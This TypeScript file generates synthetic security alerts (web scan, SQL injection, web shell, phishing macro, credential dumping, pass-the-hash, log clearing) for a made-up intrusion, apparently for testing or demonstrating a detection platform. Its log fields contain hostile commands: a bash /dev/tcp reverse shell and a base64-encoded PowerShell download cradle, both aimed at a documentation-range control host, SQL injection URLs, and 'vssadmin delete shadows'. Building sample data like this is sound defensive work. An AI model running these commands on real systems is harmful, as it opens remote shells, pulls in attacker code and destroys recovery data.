import { type HostName, type SampleAlert, windowsEvent } from './sample-alert.ts'

const scanner = '198.51.100.23'
const control = '203.0.113.77'
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const cmd = 'C:\\Windows\\System32\\cmd.exe'
const sysmon1 = ['sysmon', 'sysmon_eid1_detections', 'windows']
const execution = { id: ['T1059.001'], tactic: ['Execution'], technique: ['PowerShell'] }
const shell = { id: ['T1059.003'], tactic: ['Execution'], technique: ['Windows Command Shell'] }
const discovery = {
  id: ['T1087', 'T1059.003'],
  tactic: ['Discovery', 'Execution'],
  technique: ['Account Discovery', 'Windows Command Shell'],
}

/** The intrusion in the sample: a web server is broken into, a phished workstation leads to the file server. */
export function intrusion(): SampleAlert[] {
  return [...webServer(), ...workstation(), ...fileServer()]
}

function request(
  at: number,
  rule: SampleAlert['rule'],
  url: string,
  status: string,
  extra: Partial<SampleAlert> = {},
): SampleAlert {
  return {
    at,
    host: 'web-01',
    rule,
    decoder: 'web-accesslog',
    location: '/var/log/nginx/access.log',
    log: `${scanner} - - [02/Mar/2026:${clock(at)} +0000] "GET ${url} HTTP/1.1" ${status} 512 "-" "Mozilla/5.0 (compatible; Nikto/2.5)"`,
    data: { protocol: 'GET', srcip: scanner, id: status, url },
    ...extra,
  }
}

function clock(at: number): string {
  return new Date(Math.round(at * 60_000)).toISOString().slice(11, 19)
}

function webServer(): SampleAlert[] {
  const notFound = ['31101', 5, 'Web server 400 error code.', ['web', 'accesslog', 'attack']] as const
  const probes = [
    '/.git/config',
    '/admin.php',
    '/backup.zip',
    '/wp-login.php',
    '/phpmyadmin/',
    '/server-status',
    '/.env',
    '/test.php',
    '/old/',
    '/console',
    '/api/v1/',
    '/cgi-bin/test',
  ]
  const exploit = {
    id: ['T1190'],
    tactic: ['Initial Access'],
    technique: ['Exploit Public-Facing Application'],
  }
  return [
    ...probes.map((url, index) => request(580 + index * 0.05, notFound, url, '404')),
    request(
      580.7,
      [
        '31151',
        10,
        'Multiple web server 400 error codes from same source ip.',
        ['web', 'accesslog', 'web_scan', 'recon'],
      ],
      '/cgi-bin/printenv',
      '404',
      {
        frequency: 14,
        mitre: { id: ['T1595.002'], tactic: ['Reconnaissance'], technique: ['Vulnerability Scanning'] },
      },
    ),
    request(
      584,
      ['31103', 7, 'SQL injection attempt.', ['web', 'accesslog', 'attack', 'sql_injection']],
      '/shop/item.php?id=7%27%20union%20select%20user,password%20from%20users--',
      '200',
      { mitre: exploit },
    ),
    request(
      585.2,
      ['31106', 6, 'A web attack returned code 200 (success).', ['web', 'accesslog', 'attack']],
      '/shop/item.php?id=7%27%20or%201=1--',
      '200',
      { mitre: exploit },
    ),
    {
      at: 588.4,
      host: 'web-01',
      rule: [
        '554',
        5,
        'File added to the system.',
        ['ossec', 'syscheck', 'syscheck_entry_added', 'syscheck_file'],
      ],
      decoder: 'syscheck_new_entry',
      location: 'syscheck',
      log: "File '/var/www/html/uploads/thumb.php' added\nMode: realtime\n",
      syscheck: {
        path: '/var/www/html/uploads/thumb.php',
        mode: 'realtime',
        event: 'added',
        size_after: '1184',
        perm_after: 'rw-r--r--',
        uid_after: '33',
        uname_after: 'www-data',
        sha256_after: '5f0c1d3b9a7e84f6d2c1b0a9988776655443322110ffeeddccbbaa9988776655',
        mtime_after: '2026-03-02T09:48:23',
      },
    },
    {
      at: 589.1,
      host: 'web-01',
      rule: ['80792', 3, 'Audit: Command: /usr/bin/bash.', ['audit', 'audit_command']],
      decoder: 'auditd',
      location: '/var/log/audit/audit.log',
      data: {
        audit: {
          exe: '/usr/bin/bash',
          command: `bash -c bash -i >& /dev/tcp/${control}/4443 0>&1`,
          uid: '33',
          cwd: '/var/www/html/uploads',
          success: 'yes',
        },
      },
    },
    {
      at: 596,
      host: 'web-01',
      rule: [
        '550',
        7,
        'Integrity checksum changed.',
        ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_file'],
      ],
      mitre: { id: ['T1565.001'], tactic: ['Impact'], technique: ['Stored Data Manipulation'] },
      decoder: 'syscheck_integrity_changed',
      location: 'syscheck',
      log: "File '/etc/cron.d/logrotate' modified\nMode: realtime\n",
      syscheck: {
        path: '/etc/cron.d/logrotate',
        mode: 'realtime',
        event: 'modified',
        size_before: '102',
        size_after: '188',
        uname_after: 'root',
        changed_attributes: ['size', 'mtime', 'sha256'],
      },
    },
    suricata(
      590,
      'ET MALWARE Suspected Reverse Shell Activity Outbound',
      'A Network Trojan was detected',
      '1',
      '10.20.1.10',
      control,
    ),
  ]
}

function suricata(
  at: number,
  signature: string,
  category: string,
  severity: string,
  source: string,
  target: string,
): SampleAlert {
  return {
    at,
    host: 'sensor-01',
    rule: ['86601', 3, `Suricata: Alert - ${signature}`, ['ids', 'suricata']],
    decoder: 'json',
    location: '/var/log/suricata/eve.json',
    data: {
      event_type: 'alert',
      src_ip: source,
      src_port: '50122',
      dest_ip: target,
      dest_port: '4443',
      proto: 'TCP',
      alert: { signature, category, severity, signature_id: '2900001', action: 'allowed' },
    },
  }
}

function process(
  at: number,
  host: HostName,
  rule: readonly [string, number, string],
  fields: { readonly [name: string]: string },
  mitre: NonNullable<SampleAlert['mitre']>,
): SampleAlert {
  return { at, host, rule: [...rule, sysmon1], mitre, ...windowsEvent(host, 'Sysmon', '1', fields) }
}

function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64')
}

function workstation(): SampleAlert[] {
  const user = 'CORP\\ann'
  const mother = '{7c1d2e3f-aa10-65e3-0b01-000000000500}'
  const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://${control}/update.txt')`
  const ann = { user, integrityLevel: 'Medium' }
  return [
    process(
      655,
      'pc-ann',
      ['92044', 12, 'Office application started powershell'],
      {
        ...ann,
        image: powershell,
        parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        parentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\ann\\Downloads\\Invoice-4471.docm"',
        commandLine: `powershell.exe -nop -w hidden -EncodedCommand ${encoded(cradle)}`,
        processGuid: mother,
      },
      execution,
    ),
    {
      at: 655.4,
      host: 'pc-ann',
      rule: [
        '92207',
        12,
        'Executable file dropped in Users\\Public folder',
        ['sysmon', 'sysmon_eid11_detections', 'windows'],
      ],
      mitre: { id: ['T1105'], tactic: ['Command and Control'], technique: ['Ingress Tool Transfer'] },
      ...windowsEvent('pc-ann', 'Sysmon', '11', {
        image: powershell,
        processGuid: mother,
        targetFilename: 'C:\\Users\\Public\\Libraries\\wqhk7x2p.exe',
        user,
      }),
    },
    {
      at: 655.9,
      host: 'pc-ann',
      rule: [
        '92302',
        6,
        'Registry entry to be executed on next logon was modified using command line application reg.exe',
        ['sysmon', 'sysmon_eid13_detections', 'windows'],
      ],
      mitre: {
        id: ['T1547.001'],
        tactic: ['Persistence', 'Privilege Escalation'],
        technique: ['Registry Run Keys / Startup Folder'],
      },
      ...windowsEvent('pc-ann', 'Sysmon', '13', {
        image: 'C:\\Windows\\System32\\reg.exe',
        targetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Libraries',
        details: 'C:\\Users\\Public\\Libraries\\wqhk7x2p.exe',
        user,
        eventType: 'SetValue',
      }),
    },
    ...[
      'whoami /groups',
      'net group "Domain Admins" /domain',
      'nltest /dclist:corp.example',
      'systeminfo',
    ].map((commandLine, index) =>
      process(
        660 + index * 0.4,
        'pc-ann',
        ['92032', 3, 'Suspicious Windows cmd shell execution'],
        {
          ...ann,
          image: `C:\\Windows\\System32\\${commandLine.split(' ')[0]}.exe`,
          parentImage: cmd,
          parentCommandLine: 'cmd.exe /c C:\\Users\\Public\\Libraries\\wqhk7x2p.exe',
          commandLine,
        },
        discovery,
      ),
    ),
    {
      at: 668,
      host: 'pc-ann',
      rule: [
        '92900',
        12,
        'Local Security Authority Subsystem Service (LSASS) process was accessed by C:\\Users\\Public\\Libraries\\wqhk7x2p.exe, possible code injection for credential dumping',
        ['sysmon', 'sysmon_eid10_detections', 'windows'],
      ],
      mitre: { id: ['T1003.001'], tactic: ['Credential Access'], technique: ['LSASS Memory'] },
      ...windowsEvent('pc-ann', 'Sysmon', '10', {
        sourceImage: 'C:\\Users\\Public\\Libraries\\wqhk7x2p.exe',
        targetImage: 'C:\\Windows\\System32\\lsass.exe',
        grantedAccess: '0x1fffff',
        sourceUser: user,
      }),
    },
    {
      at: 669,
      host: 'pc-ann',
      rule: [
        '87105',
        12,
        'VirusTotal: Alert - c:\\users\\public\\libraries\\wqhk7x2p.exe - 41 engines detected this file',
        ['virustotal'],
      ],
      mitre: { id: ['T1203'], tactic: ['Execution'], technique: ['Exploitation for Client Execution'] },
      decoder: 'json',
      location: 'virustotal',
      data: {
        integration: 'virustotal',
        virustotal: {
          found: '1',
          malicious: '1',
          positives: '41',
          total: '70',
          source: {
            file: 'c:\\users\\public\\libraries\\wqhk7x2p.exe',
            sha1: '2b1f0e9d8c7b6a59483726150403020100ffeedd',
          },
        },
      },
    },
    suricata(
      671,
      'ET MALWARE Observed Malleable C2 Beacon Profile',
      'Malware Command and Control Activity Detected',
      '1',
      '10.20.2.31',
      control,
    ),
  ]
}

function fileServer(): SampleAlert[] {
  const service = 'C:\\Windows\\PSEXESVC.exe'
  return [
    {
      at: 700,
      host: 'files-01',
      rule: [
        '92652',
        6,
        'Successful Remote Logon Detected - User:\\files-admin - NTLM authentication, possible pass-the-hash attack.',
        ['win_evt_channel', 'windows', 'authentication_success'],
      ],
      mitre: {
        id: ['T1550.002', 'T1078.002'],
        tactic: ['Lateral Movement', 'Defense Evasion'],
        technique: ['Pass the Hash', 'Domain Accounts'],
      },
      // A logon over the network with a stolen hash: NTLM where a domain has Kerberos, and no session key.
      ...windowsEvent('files-01', 'Security-Auditing', '4624', {
        subjectUserSid: 'S-1-0-0',
        subjectLogonId: '0x0',
        targetUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1107',
        targetUserName: 'files-admin',
        targetDomainName: 'CORP',
        targetLogonId: '0x3d5a7e',
        logonType: '3',
        logonProcessName: 'NtLmSsp',
        authenticationPackageName: 'NTLM',
        workstationName: 'PC-ANN',
        logonGuid: '{00000000-0000-0000-0000-000000000000}',
        lmPackageName: 'NTLM V2',
        keyLength: '0',
        processId: '0x0',
        ipAddress: '10.20.2.31',
        ipPort: '49822',
        impersonationLevel: '%%1833',
        virtualAccount: '%%1843',
        targetLinkedLogonId: '0x0',
        elevatedToken: '%%1842',
      }),
    },
    {
      at: 700.1,
      host: 'files-01',
      rule: [
        '92650',
        12,
        'New Windows Service Created to start from windows root path. Suspicious event as the binary may have been dropped using Windows Admin Shares.',
        ['win_evt_channel', 'windows'],
      ],
      mitre: {
        id: ['T1021.002', 'T1569.002'],
        tactic: ['Lateral Movement', 'Execution'],
        technique: ['SMB/Windows Admin Shares', 'Service Execution'],
      },
      ...windowsEvent('files-01', 'Service Control Manager', '7045', {
        serviceName: 'PSEXESVC',
        imagePath: '%SystemRoot%\\PSEXESVC.exe',
        startType: 'demand start',
        accountName: 'LocalSystem',
      }),
    },
    process(
      700.3,
      'files-01',
      ['92052', 4, 'Windows command prompt started by an abnormal process'],
      {
        image: cmd,
        parentImage: service,
        parentCommandLine: service,
        commandLine: '"cmd"',
        user: 'NT AUTHORITY\\SYSTEM',
        integrityLevel: 'System',
        processGuid: '{11aa22bb-cc33-65e3-1001-000000000900}',
      },
      shell,
    ),
    process(
      703,
      'files-01',
      ['92032', 3, 'Suspicious Windows cmd shell execution'],
      {
        image: 'C:\\Windows\\System32\\vssadmin.exe',
        parentImage: cmd,
        parentCommandLine: '"cmd"',
        parentProcessGuid: '{11aa22bb-cc33-65e3-1001-000000000900}',
        commandLine: 'vssadmin delete shadows /all /quiet',
        user: 'NT AUTHORITY\\SYSTEM',
        integrityLevel: 'System',
      },
      {
        id: ['T1490'],
        tactic: ['Impact'],
        technique: ['Inhibit System Recovery'],
      },
    ),
    {
      at: 706,
      host: 'files-01',
      rule: [
        '63103',
        5,
        'Windows audit log was cleared.',
        ['windows', 'windows_logs', 'log_clearing', 'logs_cleared'],
      ],
      mitre: { id: ['T1070'], tactic: ['Defense Evasion'], technique: ['Indicator Removal'] },
      ...windowsEvent('files-01', 'Eventlog', '1102', {
        subjectUserName: 'files-admin',
        subjectDomainName: 'CORP',
      }),
    },
  ]
}
